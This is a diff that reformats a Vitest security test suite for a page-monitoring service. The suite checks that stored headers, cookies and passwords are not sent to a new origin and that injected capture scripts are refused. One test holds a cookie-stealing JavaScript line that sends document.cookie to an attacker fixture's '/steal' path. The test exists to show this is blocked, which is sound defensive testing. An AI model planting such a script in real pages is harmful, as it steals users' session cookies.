@@ -7,7 +7,16 @@ import type http from 'node:http';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import type { IssuedKey } from '../../src/db/api-keys.js';
 import type { MonitorView } from '../../src/monitors/view.js';
-import { addPrivatePage, lastSeen, MASK, monitorOf, newSecrets, runAndWait, YEARLY, type Secrets } from '../helpers/monitor-secrets.js';
+import {
+  addPrivatePage,
+  lastSeen,
+  MASK,
+  monitorOf,
+  newSecrets,
+  runAndWait,
+  YEARLY,
+  type Secrets,
+} from '../helpers/monitor-secrets.js';
 import { startFixtureServer, type FixtureServer } from '../helpers/fixture-server.js';
 import { errorOf, startTestService, type TestService } from '../helpers/service.js';
 
@@ -17,27 +26,42 @@ let svc: TestService;
 let key: IssuedKey;
 
 /** Secrets of every kind: a header, a cookie bound to 127.0.0.1, a cookie that follows the page, a password. */
-interface AllSecrets extends Secrets { pageCookie: string }
+interface AllSecrets extends Secrets {
+  pageCookie: string;
+}
 const newAll = (): AllSecrets => ({ ...newSecrets(), pageCookie: newSecrets().cookie });
 const captureWith = (s: AllSecrets) => ({
   viewport: { width: 320, height: 200 },
   headers: { 'X-Api-Token': s.header },
-  cookies: [{ name: 'session', value: s.cookie, domain: '127.0.0.1', path: '/' }, { name: 'pagecookie', value: s.pageCookie }],
+  cookies: [
+    { name: 'session', value: s.cookie, domain: '127.0.0.1', path: '/' },
+    { name: 'pagecookie', value: s.pageCookie },
+  ],
   httpCredentials: { username: 'watcher', password: s.password },
 });
 
 async function create(s: AllSecrets, path = '/private'): Promise<MonitorView> {
-  return monitorOf(await svc.call('POST', '/api/monitors', key.key, { url: `${target.url}${path}`, schedule: YEARLY, capture: captureWith(s) }), 201);
+  return monitorOf(
+    await svc.call('POST', '/api/monitors', key.key, {
+      url: `${target.url}${path}`,
+      schedule: YEARLY,
+      capture: captureWith(s),
+    }),
+    201,
+  );
 }
 const patchOf = (m: MonitorView, body: unknown) => svc.call('PATCH', `/api/monitors/${m.id}`, key.key, body);
 const get = async (m: MonitorView) => monitorOf(await svc.call('GET', `/api/monitors/${m.id}`, key.key));
 
 /** The secret values among everything `server` received: header values, cookies, decoded Basic credentials. */
 function received(server: FixtureServer, values: string[]): string[] {
-  const seen = server.requests.flatMap((r) => Object.values(r.headers).flat().map(String)).flatMap((v) => {
-    const basic = /^Basic (.+)$/.exec(v)?.[1];
-    return basic ? [v, Buffer.from(basic, 'base64').toString('utf8')] : [v];
-  }).join('\n');
+  const seen = server.requests
+    .flatMap((r) => Object.values(r.headers).flat().map(String))
+    .flatMap((v) => {
+      const basic = /^Basic (.+)$/.exec(v)?.[1];
+      return basic ? [v, Buffer.from(basic, 'base64').toString('utf8')] : [v];
+    })
+    .join('\n');
   return values.filter((value) => seen.includes(value));
 }
 
@@ -74,9 +98,15 @@ describe('stored secrets and a PATCH of url', () => {
     const err = await errorOf(res);
     expect(err.code).toBe('invalid_request');
     // The cookie with its own domain stays bound to 127.0.0.1 wherever the page is: it may be kept.
-    expect(err.details!.map((d) => d.path).sort()).toEqual(['capture.cookies.1.value', 'capture.headers.X-Api-Token', 'capture.httpCredentials.password']);
+    expect(err.details!.map((d) => d.path).sort()).toEqual([
+      'capture.cookies.1.value',
+      'capture.headers.X-Api-Token',
+      'capture.httpCredentials.password',
+    ]);
     for (const d of err.details!) {
-      expect(d.message).toBe(`the url moved from ${target.url} to ${attacker.url}, and a stored secret is only sent to the origin it was given for: send the value again, or remove it`);
+      expect(d.message).toBe(
+        `the url moved from ${target.url} to ${attacker.url}, and a stored secret is only sent to the origin it was given for: send the value again, or remove it`,
+      );
     }
     expect((await get(m)).url).toBe(`${target.url}/private`); // nothing was written
     expect(lastSeen(target)).toEqual({ header: s.header, cookie: s.cookie, password: s.password });
@@ -86,14 +116,19 @@ describe('stored secrets and a PATCH of url', () => {
     const s = newAll();
     const m = await create(s);
     const fresh = newSecrets();
-    const moved = await monitorOf(await patchOf(m, {
-      url: `${attacker.url}/private`,
-      capture: {
-        headers: { 'X-Api-Token': fresh.header },
-        cookies: [{ name: 'session', value: MASK, domain: '127.0.0.1', path: '/' }, { name: 'pagecookie', value: fresh.cookie }],
-        httpCredentials: { username: 'watcher', password: fresh.password },
-      },
-    }));
+    const moved = await monitorOf(
+      await patchOf(m, {
+        url: `${attacker.url}/private`,
+        capture: {
+          headers: { 'X-Api-Token': fresh.header },
+          cookies: [
+            { name: 'session', value: MASK, domain: '127.0.0.1', path: '/' },
+            { name: 'pagecookie', value: fresh.cookie },
+          ],
+          httpCredentials: { username: 'watcher', password: fresh.password },
+        },
+      }),
+    );
     expect(moved.capture.cookies!.map((c) => c.value)).toEqual([MASK, MASK]);
     expect((await runAndWait(svc.call, key, m.id)).status).toBe('succeeded');
     // Positive control: the new origin was really captured, with the values sent again.
@@ -107,10 +142,16 @@ describe('stored secrets and a PATCH of url', () => {
   it('to another origin is taken when the secrets are removed', async () => {
     const s = newAll();
     const m = await create(s);
-    const moved = await monitorOf(await patchOf(m, {
-      url: `${attacker.url}/private`,
-      capture: { headers: null, cookies: [{ name: 'session', value: MASK, domain: '127.0.0.1', path: '/' }], httpCredentials: null },
-    }));
+    const moved = await monitorOf(
+      await patchOf(m, {
+        url: `${attacker.url}/private`,
+        capture: {
+          headers: null,
+          cookies: [{ name: 'session', value: MASK, domain: '127.0.0.1', path: '/' }],
+          httpCredentials: null,
+        },
+      }),
+    );
     expect(moved.capture).toMatchObject({ cookies: [{ name: 'session', value: MASK }] });
     expect(moved.capture.headers).toBeUndefined();
     expect((await runAndWait(svc.call, key, m.id)).status).toBe('failed'); // 401 without credentials
@@ -137,10 +178,12 @@ describe('stored headers and headersScope', () => {
     expect(received(attacker, Object.values(s))).toEqual([]);
 
     expect(res.status).toBe(400);
-    expect((await errorOf(res)).details).toEqual([{
-      path: 'capture.headers.X-Api-Token',
-      message: `headersScope "all" would send this stored header to every host the page loads from, and it was given for ${target.url} only: send the value again, or remove it`,
-    }]);
+    expect((await errorOf(res)).details).toEqual([
+      {
+        path: 'capture.headers.X-Api-Token',
+        message: `headersScope "all" would send this stored header to every host the page loads from, and it was given for ${target.url} only: send the value again, or remove it`,
+      },
+    ]);
     expect((await get(m)).capture.headersScope).toBe('origin');
   });
 
@@ -187,10 +230,15 @@ describe('code added to the page', () => {
   it('a PATCH of capture.js is 400 naming every stored cookie, and a script that would send document.cookie to the attacker never runs', async () => {
     const s = newAll();
     const m = await create(s);
-    const res = await patchOf(m, { capture: { js: `new Image().src = '${attacker.url}/steal?' + encodeURIComponent(document.cookie)` } });
+    const res = await patchOf(m, {
+      capture: { js: `new Image().src = '${attacker.url}/steal?' + encodeURIComponent(document.cookie)` },
+    });
     expect(res.status).toBe(400);
     expect((await errorOf(res)).details).toEqual([
-      { path: 'capture.cookies.0.value', message: expect.stringMatching(/^capture\.js changed, and code added to the page can read a stored cookie/) },
+      {
+        path: 'capture.cookies.0.value',
+        message: expect.stringMatching(/^capture\.js changed, and code added to the page can read a stored cookie/),
+      },
       { path: 'capture.cookies.1.value', message: expect.stringMatching(/^capture\.js changed/) },
     ]);
     expect((await get(m)).capture.js).toBeUndefined();
@@ -199,7 +247,7 @@ describe('code added to the page', () => {
     expect(attacker.requests).toEqual([]);
   });
 
-  it('with the cookies sent again the new code is taken (the values are the caller\'s own again)', async () => {
+  it("with the cookies sent again the new code is taken (the values are the caller's own again)", async () => {
     const s = newAll();
     const m = await create(s);
     const again = newAll();
